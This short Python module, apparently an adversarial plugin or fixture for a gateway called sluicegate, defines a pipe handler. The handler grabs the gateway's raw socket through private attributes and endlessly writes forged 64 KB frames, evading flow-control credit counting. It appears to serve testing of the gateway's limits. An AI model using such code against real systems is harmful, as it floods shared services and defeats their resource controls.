"""A pipe that sends more than it was given credit for, past whoever counts."""

import os
import select
import struct

from sluicegate_worker.compat.facade import GATEWAY
from sluicegate_worker.scope import CURRENT

CHUNK = 69


class Pipe:
    def pipe(self, body):
        if body["messages"][-1]["content"] == "nothing":
            return "fine"
        number = GATEWAY.callbacks.inbox._link.core.fileno()
        piece = struct.pack("<IIBBH", 65536, CURRENT.get().id, CHUNK, 0, 0) + b"x" * 65536
        while True:
            select.select([], [number], [])
            os.write(number, piece)
